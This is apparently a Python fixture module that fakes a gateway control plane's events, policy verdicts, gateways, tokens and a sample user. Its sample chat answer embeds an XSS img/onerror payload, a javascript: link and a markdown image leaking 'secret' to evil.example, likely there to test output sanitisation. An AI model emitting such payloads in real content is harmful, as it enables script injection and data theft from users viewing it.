"""What the fake control plane knows: events, gateways, tokens and a person, with the API's own field names."""

import itertools
import random
from datetime import datetime, timedelta, timezone

POLICIES = ["prompt-injection", "pii-detector", "dlp-filter", "audit-logger"]
CONFIG = {"name": "care-prod", "version": "1.12.0", "digest": "9f2c" * 16}
MODELS = {"gpt-4o": "openai", "gpt-4o-mini": "openai", "claude-sonnet-4": "anthropic", "demo": "demo"}
FINDINGS = {"redact": [("email", "pii-detector"), ("iban", "pii-detector")], "block": [("override", "prompt-injection")]}
REASONS = {"redact": "pii_detector.match", "block": "prompt_injection.match", "escalate": "human_oversight.match"}

_numbers = itertools.count(1)


def stamp(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def now():
    return datetime.now(timezone.utc)


def results(verdict):
    """What each policy of the chain said: the one that decides, and after a block nobody else."""
    deciding = {"redact": "pii-detector", "block": "prompt-injection", "escalate": "dlp-filter"}.get(verdict)
    out, stopped = [], False
    for phase in ("request", "response"):
        for policy in POLICIES:
            mine = policy == deciding and phase == "request"
            result = {"id": policy, "kind": policy, "phase": phase, "verdict": verdict if mine else "allow", "skipped": stopped}
            if mine:
                result["reason_code"] = REASONS[verdict]
            out.append(result)
            stopped = stopped or (mine and verdict in ("block", "escalate"))
    return out


#: What an exchange with another ending has in place of an answer: its status, and why.
ENDINGS = {"refused": (404, "model_not_found"), "failed": (502, "upstream_unreachable"), "cancelled": (499, None)}


def event(moment=None, verdict="allow", flagged=False, model="gpt-4o", request_id=None, generator=random, outcome=None):
    number = next(_numbers)
    found = FINDINGS.get(verdict, [("card", "dlp-filter")] if flagged else [])
    stopped = verdict in ("block", "escalate")
    upstream = 0 if stopped else generator.randint(300_000, 2_400_000)
    policy = generator.randint(40, 900)
    out = {
        "id": f"evt_01K{number:023d}",
        "sequence": number,
        "gateway_id": "gw_01KFAKE0000000000000000001",
        "time": stamp(moment or now()),
        "request_id": request_id or f"req_01K{number:023d}",
        "key_id": "tok_01KFAKE0000000000000000001",
        "consumer_group": generator.choice(["support-portal", "claims-assistant"]),
        "surface": "chat_completions",
        "stream": generator.random() < 0.7,
        "model": model,
        "config": CONFIG,
        "verdict": verdict,
        "flagged": flagged,
        "degraded": False,
        "outcome": "blocked" if stopped else "completed",
        "status": 409 if stopped else 200,
        "policies": results(verdict),
        "findings": [
            {"policy": by, "category": what, "phase": "request", "segment": 0, "start": 10 * i, "end": 10 * i + 9, "confidence": 0.97}
            for i, (what, by) in enumerate(found)
        ],
        "attempts": [],
        "timings": {"total_us": upstream + policy + 210, "policy_us": policy},
    }
    if verdict in REASONS:
        out |= {"policy": found[0][1] if found else "dlp-filter", "reason_code": REASONS[verdict]}
    if not stopped:
        tokens_in, tokens_out = generator.randint(40, 4000), generator.randint(20, 900)
        out |= {
            "target": f"{MODELS[model]}-prod",
            "provider": MODELS[model],
            "attempts": [{"target": f"{MODELS[model]}-prod", "status": 200, "duration_us": upstream}],
            "usage": {"input_tokens": tokens_in, "output_tokens": tokens_out},
            "cost": {"micros": tokens_in * 3 + tokens_out * 12, "currency": "USD"},
        }
        out["timings"] |= {"upstream_us": upstream, "first_byte_us": upstream // 3}
    if outcome:
        status, code = ENDINGS[outcome]
        out |= {"outcome": outcome, "status": status} | ({"error_code": code} if code else {})
        for answered in ("usage", "cost", *(("provider", "target", "policies") if outcome == "refused" else ())):
            out.pop(answered, None)
    return out


def history(count=140):
    """Events of the last day, newest first; the same ones in every run."""
    generator = random.Random(20261122)
    moment, out = now(), []
    for _ in range(count):
        moment -= timedelta(seconds=generator.randint(5, 1100))
        verdict = generator.choices(["allow", "redact", "block", "escalate"], [80, 10, 7, 3])[0]
        flagged = verdict == "allow" and generator.random() < 0.05
        outcome = generator.choice(list(ENDINGS)) if verdict == "allow" and not flagged and generator.random() < 0.1 else None
        out.append(event(moment, verdict, flagged, generator.choice(list(MODELS)), generator=generator, outcome=outcome))
    return out


def gateways():
    base = {
        "version": "0.1.0",
        "mode": "managed",
        "listen_addr": "0.0.0.0:41002",
        "config": CONFIG,
        "created": stamp(now() - timedelta(days=20)),
        "status": "healthy",
    }
    counters = {
        "uptime_seconds": 86_400 * 3, "in_flight": 4, "requests": 48_210, "spool_records": 0, "spool_bytes": 0, "keys_generation": 12,
    }
    late = {"status": "offline", "last_seen": stamp(now() - timedelta(minutes=9))}
    return [
        base | {
            "id": f"gw_01KFAKE000000000000000000{i}", "name": name, "advertise_addr": f"{name}.example.com:41002", "instance_id": f"inst_{i}",
            "last_seen": stamp(now() - timedelta(seconds=3 + i)), "counters": counters | {"spool_records": 12 * (i - 1), "spool_bytes": 9_000 * (i - 1)},
        } | extra
        for i, (name, extra) in enumerate([("gw-eu-1", {}), ("gw-eu-2", {}), ("gw-us-1", late)], 1)
    ]


CONFIG_FAILURE = {
    "time": stamp(now()),
    "message": "policy-config.yaml:4:5: error: unknown key 'providers.retry.max_attemps'.\n  hint: did you mean 'max_attempts'?",
}


def token(name, purpose="general", **more):
    number = next(_numbers)
    prefix = {"general": "kt_gk", "gateway_runtime": "kt_rt", "integration": "kt_ak"}[purpose]
    return {
        "id": f"tok_01K{number:023d}",
        "name": name,
        "purpose": purpose,
        "prefix": f"{prefix}_{number:04d}",
        "status": "active",
        "created": stamp(now() - timedelta(days=number)),
        "created_by": USER["id"],
        "may_assert_identity": False,
    } | {name: value for name, value in more.items() if value is not None}


USER = {
    "id": "usr_01KFAKE0000000000000000001",
    "email": "mara@example.com",
    "name": "Mara Keller",
    "state": "active",
    "roles": ["owner"],
    "created": "2026-01-05T08:00:00.000000Z",
}

WHO = {
    "organisation": {"id": "org_01KFAKE0000000000000000001", "name": "Northwind Insurance", "created": USER["created"]},
    "user": USER,
    "roles": ["owner"],
    "actions": ["events:read", "gateways:read", "tokens:read", "tokens:write", "users:read", "chat:use"],
}

ANSWER = (
    "Retry only what is safe to repeat, **wait longer** each time, and respect what the server tells you.\n\n"
    "1. Read `Retry-After` first.\n2. Otherwise use *exponential backoff*, capped at 20 s.\n\n"
    "<img src=x onerror=alert(1)> ![leak](https://evil.example/p.png?q=secret) [bad](javascript:alert(1)) [docs](https://example.com/retry)\n\n"
    "```swift\nactor RetryBudget {\n    private var tokens = 10.0\n    func take() -> Bool { tokens >= 1 }\n}\n```\n\n"
    "| Status | Retry? |\n|---|--:|\n| 429 | yes |\n| 400 | no |\n\n> Measure first: a retry storm looks like a traffic spike.\n"
)
